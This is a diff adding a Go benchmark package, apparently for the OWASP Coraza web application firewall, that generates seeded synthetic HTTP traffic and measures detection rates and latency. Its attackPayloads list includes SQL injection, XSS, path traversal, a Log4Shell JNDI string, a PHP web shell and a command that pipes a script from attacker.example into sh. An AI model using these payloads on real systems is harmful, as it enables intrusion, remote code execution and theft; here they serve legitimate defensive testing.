@@ -0,0 +1,277 @@
+// Copyright 2022 Juan Pablo Tosso and the OWASP Coraza contributors
+// SPDX-License-Identifier: Apache-2.0
+
+// Package bench generates synthetic transactions resembling the traffic
+// seen by CRS deployments and measures the WAF evaluating them:
+//
+//	waf, _ := coraza.NewWAF(coraza.NewWAFConfig().WithDirectivesFromFile("coraza.conf"))
+//	res, _ := bench.Run(waf, bench.Generate(bench.DefaultWorkloads[0]))
+//	fmt.Println(res)
+//
+// The requests are generated from a seed, the same workload produces the
+// same requests so rule set and engine changes can be compared.
+package bench
+
+import (
+	"fmt"
+	"math/rand"
+	"net/url"
+	"runtime"
+	"sort"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/corazawaf/coraza/v3"
+)
+
+// Workload describes the generated requests
+type Workload struct {
+	Name string
+	// Requests is the number of generated requests
+	Requests int
+	// MinArgs and MaxArgs bound the number of query and body arguments of
+	// each request
+	MinArgs int
+	MaxArgs int
+	// BodySize is the approximate size of the urlencoded body of the POST
+	// requests, zero generates GET requests only
+	BodySize int
+	// AttackRatio is the fraction of the requests carrying an attack
+	// payload in one of their arguments, from 0 to 1
+	AttackRatio float64
+	// Seed initializes the generator
+	Seed int64
+}
+
+// DefaultWorkloads are the standard workloads, from API calls with a few
+// arguments to large form submissions
+var DefaultWorkloads = []Workload{
+	{Name: "small", Requests: 1000, MinArgs: 1, MaxArgs: 4, AttackRatio: 0.05, Seed: 1},
+	{Name: "forms", Requests: 1000, MinArgs: 5, MaxArgs: 20, BodySize: 2048, AttackRatio: 0.05, Seed: 2},
+	{Name: "large-body", Requests: 200, MinArgs: 10, MaxArgs: 50, BodySize: 64 * 1024, AttackRatio: 0.05, Seed: 3},
+	{Name: "attacks", Requests: 1000, MinArgs: 1, MaxArgs: 10, BodySize: 512, AttackRatio: 0.5, Seed: 4},
+}
+
+// Request is a generated request
+type Request struct {
+	Method  string
+	URI     string
+	Headers [][2]string
+	Body    []byte
+	// Attack is true if one of the arguments is an attack payload
+	Attack bool
+}
+
+// attackPayloads are common injection payloads detected by the CRS
+var attackPayloads = []string{
+	"' OR 1=1--",
+	"1 UNION SELECT username, password FROM users",
+	"<script>alert(document.cookie)</script>",
+	"<img src=x onerror=alert(1)>",
+	"../../../../etc/passwd",
+	"; cat /etc/passwd",
+	"$(curl http://attacker.example/x.sh | sh)",
+	"${jndi:ldap://attacker.example/a}",
+	"<?php system($_GET['cmd']); ?>",
+}
+
+// words are used to generate the benign argument names and values
+var words = []string{
+	"id", "name", "page", "sort", "filter", "query", "email", "token", "lang",
+	"category", "price", "quantity", "address", "city", "comment", "user",
+	"session", "limit", "offset", "format", "callback", "redirect", "search",
+}
+
+var userAgents = []string{
+	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Safari/537.36",
+	"Mozilla/5.0 (Macintosh; Intel Mac OS X 13_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.6 Safari/605.1.15",
+	"Mozilla/5.0 (X11; Linux x86_64; rv:119.0) Gecko/20100101 Firefox/119.0",
+	"curl/8.4.0",
+}
+
+// Generate returns the requests of the workload
+func Generate(w Workload) []Request {
+	rnd := rand.New(rand.NewSource(w.Seed))
+	reqs := make([]Request, 0, w.Requests)
+	for i := 0; i < w.Requests; i++ {
+		nargs := w.MinArgs
+		if w.MaxArgs > w.MinArgs {
+			nargs += rnd.Intn(w.MaxArgs - w.MinArgs + 1)
+		}
+		attack := rnd.Float64() < w.AttackRatio
+		attackArg := -1
+		if attack && nargs > 0 {
+			attackArg = rnd.Intn(nargs)
+		}
+		query, body := url.Values{}, url.Values{}
+		post := w.BodySize > 0 && nargs > 0 && rnd.Intn(2) == 0
+		// the values of the body arguments spread the body size
+		valueSize := 8
+		if post {
+			valueSize = w.BodySize / ((nargs + 1) / 2)
+		}
+		for a := 0; a < nargs; a++ {
+			name := words[rnd.Intn(len(words))] + strconv.Itoa(a)
+			value := benignValue(rnd, valueSize)
+			if a == attackArg {
+				value = attackPayloads[rnd.Intn(len(attackPayloads))]
+			}
+			// with a body, every other argument is sent in the query
+			if post && a%2 == 0 {
+				body.Add(name, value)
+			} else {
+				query.Add(name, value)
+			}
+		}
+		req := Request{
+			Method: "GET",
+			URI:    "/" + words[rnd.Intn(len(words))] + "/" + strconv.Itoa(rnd.Intn(10000)),
+			Headers: [][2]string{
+				{"Host", "www.example.com"},
+				{"User-Agent", userAgents[rnd.Intn(len(userAgents))]},
+				{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
+				{"Accept-Language", "en-US,en;q=0.5"},
+				{"Cookie", "session=" + benignValue(rnd, 32)},
+			},
+			Attack: attackArg >= 0,
+		}
+		if q := query.Encode(); q != "" {
+			req.URI += "?" + q
+		}
+		if post {
+			req.Method = "POST"
+			req.Body = []byte(body.Encode())
+			req.Headers = append(req.Headers,
+				[2]string{"Content-Type", "application/x-www-form-urlencoded"},
+				[2]string{"Content-Length", strconv.Itoa(len(req.Body))})
+		}
+		reqs = append(reqs, req)
+	}
+	return reqs
+}
+
+const alphanum = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
+
+func benignValue(rnd *rand.Rand, size int) string {
+	if size < 1 {
+		size = 1
+	}
+	n := 1 + rnd.Intn(size)
+	sb := strings.Builder{}
+	sb.Grow(n)
+	for i := 0; i < n; i++ {
+		sb.WriteByte(alphanum[rnd.Intn(len(alphanum))])
+	}
+	return sb.String()
+}
+
+// Result contains the measures of a run
+type Result struct {
+	Requests int
+	// Interrupted is the number of interrupted transactions
+	Interrupted int
+	// Detected is the number of attacks interrupted, it can't exceed
+	// Attacks
+	Detected int
+	Attacks  int
+	// Duration is the total time spent processing the transactions
+	Duration time.Duration
+	// P50, P90 and P99 are the latency percentiles of the transactions
+	P50 time.Duration
+	P90 time.Duration
+	P99 time.Duration
+	Max time.Duration
+	// AllocsPerRequest and BytesPerRequest are the heap allocations of the
+	// transactions, allocations of other goroutines are counted too
+	AllocsPerRequest uint64
+	BytesPerRequest  uint64
+}
+
+// String formats the result on a single line
+func (r Result) String() string {
+	return fmt.Sprintf("requests=%d interrupted=%d detected=%d/%d p50=%s p90=%s p99=%s max=%s allocs/req=%d bytes/req=%d",
+		r.Requests, r.Interrupted, r.Detected, r.Attacks, r.P50, r.P90, r.P99, r.Max, r.AllocsPerRequest, r.BytesPerRequest)
+}
+
+// Run processes the requests with the WAF, one at a time, through every
+// phase with an empty 200 response
+func Run(waf coraza.WAF, reqs []Request) (Result, error) {
+	res := Result{Requests: len(reqs)}
+	if len(reqs) == 0 {
+		return res, nil
+	}
+	latencies := make([]time.Duration, 0, len(reqs))
+	var before, after runtime.MemStats
+	runtime.GC()
+	runtime.ReadMemStats(&before)
+	for _, req := range reqs {
+		start := time.Now()
+		interrupted, err := process(waf, req)
+		d := time.Since(start)
+		if err != nil {
+			return res, err
+		}
+		latencies = append(latencies, d)
+		res.Duration += d
+		if req.Attack {
+			res.Attacks++
+		}
+		if interrupted {
+			res.Interrupted++
+			if req.Attack {
+				res.Detected++
+			}
+		}
+	}
+	runtime.ReadMemStats(&after)
+	res.AllocsPerRequest = (after.Mallocs - before.Mallocs) / uint64(len(reqs))
+	res.BytesPerRequest = (after.TotalAlloc - before.TotalAlloc) / uint64(len(reqs))
+
+	sort.Slice(latencies, func(i, j int) bool { return latencies[i] < latencies[j] })
+	res.P50 = percentile(latencies, 50)
+	res.P90 = percentile(latencies, 90)
+	res.P99 = percentile(latencies, 99)
+	res.Max = latencies[len(latencies)-1]
+	return res, nil
+}
+
+// process evaluates a request and returns whether it was interrupted
+func process(waf coraza.WAF, req Request) (bool, error) {
+	tx := waf.NewTransaction()
+	defer func() {
+		tx.ProcessLogging()
+		tx.Close()
+	}()
+	tx.ProcessConnection("127.0.0.1", 40000, "127.0.0.1", 80)
+	tx.ProcessURI(req.URI, req.Method, "HTTP/1.1")
+	for _, h := range req.Headers {
+		tx.AddRequestHeader(h[0], h[1])
+	}
+	if it := tx.ProcessRequestHeaders(); it != nil {
+		return true, nil
+	}
+	if len(req.Body) > 0 {
+		if it, _, err := tx.WriteRequestBody(req.Body); err != nil || it != nil {
+			return it != nil, err
+		}
+	}
+	if it, err := tx.ProcessRequestBody(); err != nil || it != nil {
+		return it != nil, err
+	}
+	tx.AddResponseHeader("Content-Type", "text/html")
+	if it := tx.ProcessResponseHeaders(200, "HTTP/1.1"); it != nil {
+		return true, nil
+	}
+	it, err := tx.ProcessResponseBody()
+	return it != nil, err
+}
+
+// percentile returns the p percentile of the sorted durations
+func percentile(sorted []time.Duration, p int) time.Duration {
+	i := (len(sorted)*p+99)/100 - 1
+	if i < 0 {
+		i = 0
+	}
+	return sorted[i]
+}